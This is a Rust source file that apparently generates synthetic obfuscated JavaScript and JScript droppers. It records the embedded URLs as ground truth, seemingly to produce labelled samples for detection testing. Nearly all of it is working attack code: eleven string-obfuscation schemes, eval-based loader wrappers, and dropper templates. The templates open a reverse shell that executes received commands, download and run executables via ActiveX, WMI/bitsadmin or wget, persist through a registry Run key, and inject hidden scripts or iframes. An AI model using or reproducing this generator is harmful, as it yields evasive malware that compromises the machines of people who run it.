//! Droppers in JScript and JavaScript.

use crate::generator::{Dice, Truth, base64, codes, each, keyed, put, quoted, reversed};
use std::fmt::Write;

const FILES: &[&str] = &[".exe", ".dll", ".gif", ".bin", ".js", ""];

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let other = dice.name();
    match dice.below(11) {
        0 => format!(
            "[]['fil' + 'ter']['constructor']('return \"{}\"')()",
            each(text, "", |it| format!("\\\\x{it:02x}"))
        ),
        1 => {
            // Texts of a table behind several functions that only pass them on.
            let pieces = dice.pieces(text);
            let base = 50 + dice.below(200);
            let shift = 1 + dice.below(90);
            let list = quoted(&pieces, '\'').join(", ");
            let _ = writeln!(
                before,
                "const _0x{name} = [{list}];\nconst _0x{other} = function (a, b) {{ a = a - 0x{base:x}; let c = _0x{name}[a]; return c; }};\nfunction w{name}(p, q) {{ return _0x{other}(q - -0x{shift:x}, p); }}"
            );
            (0..pieces.len())
                .map(|at| {
                    let at =
                        i64::try_from(base + at).unwrap_or(0) - i64::try_from(shift).unwrap_or(0);
                    format!("w{name}('{other}', {at})")
                })
                .collect::<Vec<_>>()
                .join(" + ")
        }
        2 => format!("'{}'", each(text, "", |it| format!("\\{it:03o}"))),
        3 => {
            let key = dice.name();
            let list = codes(keyed(text, &key), ",");
            let _ = writeln!(
                before,
                "var {name} = [{list}], {other} = '{key}', k{name} = '';\nfor (var i in {name}) {{ k{name} += String.fromCharCode({name}[i] ^ {other}.charCodeAt(i % {other}.length)); }}"
            );
            format!("k{name}")
        }
        4 => {
            let letters = "abcdefghijklmnopqrstuvwxyz0123456789";
            let table = dice.shuffled(letters);
            let map: Vec<String> = letters
                .chars()
                .zip(table.chars())
                .map(|(plain, turned)| format!("'{turned}': '{plain}'"))
                .collect();
            let turned: String = text
                .chars()
                .map(|it| letters.find(it).and_then(|at| table.chars().nth(at)).unwrap_or(it))
                .collect();
            let _ = writeln!(before, "var {name} = {{ {} }};", map.join(", "));
            format!(
                "'{turned}'.split('').map(function (c) {{ return {name}.hasOwnProperty(c) ? {name}[c] : c; }}).join('')"
            )
        }
        5 => format!(
            "new TextDecoder('utf-8').decode(Uint8Array.from(atob('{}'), c => c.charCodeAt(0)).reverse())",
            base64(reversed(text).as_bytes())
        ),
        6 => {
            let noisy: String = text
                .chars()
                .map(|it| format!("{it}{}", dice.pick(&["q", "7", "Z", "-"])))
                .collect();
            format!("[...'{noisy}'].filter((_, i) => i % 2 === 0).join('')")
        }
        7 => {
            let key = dice.key();
            format!(
                "String.fromCharCode.apply(null, [{}].map(function (n) {{ return n - {key} * 2 + {key}; }}))",
                each(text, ", ", |it| (u32::from(it) + u32::from(key)).to_string())
            )
        }
        8 => {
            let pieces = dice.pieces(text);
            let _ = writeln!(before, "var {name} = new Array();");
            for at in dice.order(pieces.len()) {
                let _ = writeln!(before, "{name}[{at}] = \"{}\";", pieces[at]);
            }
            format!("\"\".concat.apply(\"\", {name})")
        }
        9 => {
            let letters = each(text, "", |it| format!("\\u{{{it:x}}}"));
            format!("`{letters}`")
        }
        _ => {
            let junk = dice.name();
            let _ = writeln!(
                before,
                "function {name}(s, a, b) {{ return s.substr(a, s.length - a - b); }}\nfunction {other}() {{ return {name}.apply(this, arguments); }}"
            );
            format!("{other}('{junk}{text}{junk}', {0}, {0})", junk.len())
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let text = format!("{before}{line}");
    match dice.below(8) {
        0 => {
            let name = dice.name();
            let lines: Vec<String> = text
                .as_bytes()
                .chunks(70)
                .map(|it| codes(it.iter().map(|byte| byte ^ 3), ","))
                .collect();
            format!(
                "var {name} = [[{}]];\nvar e{name} = this['ev' + 'al'] || eval;\nvar t{name} = '';\nfor (var a = 0; a < {name}.length; a++) for (var b = 0; b < {name}[a].length; b++) t{name} += String.fromCharCode({name}[a][b] ^ 3);\ne{name}(t{name});\n",
                lines.join("],\n[")
            )
        }
        1 => format!(
            "setTimeout(function () {{ eval(decodeURIComponent('{}')); }}, 100);\n",
            each(&text, "", |it| format!("%{it:02X}"))
        ),
        2 => format!("!function () {{\n{text}}}();\n"),
        _ => text,
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    if dice.chance(10) {
        let (host, port) = truth.endpoint(dice);
        return put(
            "const net = require('net');\nconst sock = net.createConnection(@P@, @U@);\nsock.on('connect', () => sock.write('hello'));\nsock.on('data', d => { require('child_process').exec(d.toString(), (e, o) => sock.write(o)); });\n",
            &[("U", &hide(dice, &host, before)), ("P", &port.to_string())],
        );
    }
    let url = truth.url(dice, FILES);
    let word = hide(dice, &url, before);
    let template = dice.pick(&[
        "with (new ActiveXObject('MSXML2.XMLHTTP')) {\n  open('GET', @U@, false);\n  send();\n  var @V@ = responseText;\n}\nnew Function(@V@)();\n",
        "var @V@ = new ActiveXObject('Microsoft.XMLHTTP');\n@V@.onreadystatechange = function () {\n  if (@V@.readyState === 4) {\n    var s = new ActiveXObject('ADODB.Stream');\n    s.open(); s.type = 1; s.write(@V@.ResponseBody); s.saveToFile('C:\\\\Users\\\\Public\\\\@F@.exe', 2); s.close();\n    WScript.CreateObject('Shell.Application').ShellExecute('C:\\\\Users\\\\Public\\\\@F@.exe');\n  }\n};\n@V@.open('GET', @U@, false);\n@V@.send(null);\n",
        "const http = require(@H@);\nhttp.get(new URL(@U@), { headers: { 'User-Agent': 'node' } }, r => r.on('data', d => eval(d.toString())));\n",
        "var s = document.createElement('script');\ns.setAttribute('src', @U@);\ns.async = true;\n(document.head || document.body).insertBefore(s, null);\n",
        "document.body.innerHTML += '<iframe width=\"1\" height=\"1\" src=\"' + (@U@) + '\"></iframe>';\n",
        "var @V@ = document.createElement('form');\n@V@.action = @U@;\n@V@.method = 'post';\ndocument.body.appendChild(@V@);\n@V@.submit();\n",
        "window.open(@U@, '_self');\n",
        "var sh = WScript.CreateObject('WScript.Shell');\nsh.RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\@F@', 'mshta ' + (@U@), 'REG_SZ');\n",
        "var wmi = GetObject('winmgmts:root\\\\cimv2:Win32_Process');\nwmi.Create('cmd /c bitsadmin /transfer @F@ ' + (@U@) + ' %TEMP%\\\\@F@.exe & %TEMP%\\\\@F@.exe', null, null, 0);\n",
        "const { execFile } = require('child_process');\nexecFile('wget', ['-q', '-O', '/tmp/@F@', @U@], () => execFile('/bin/sh', ['/tmp/@F@']));\n",
        "(async function () {\n  const { default: got } = await import('node:https');\n  const res = await fetch(new Request(@U@));\n  const buf = Buffer.from(await res.arrayBuffer());\n  require('fs').writeFileSync(require('path').join(require('os').tmpdir(), '@F@'), buf, { mode: 0o755 });\n  require('child_process').exec(require('path').join(require('os').tmpdir(), '@F@'));\n})();\n",
        "const ws = new WebSocket((@U@).replace(/^http/, 'ws'));\nws.onmessage = (m) => eval(m.data);\n",
    ]);
    let library = if url.starts_with("https") { "'https'" } else { "'http'" };
    if template.contains("WebSocket(") {
        truth.urls.remove(&url);
        truth.urls.insert(format!("ws{}", &url[4..]));
    }
    put(template, &[("U", &word), ("F", &file), ("V", &var), ("H", library)])
}
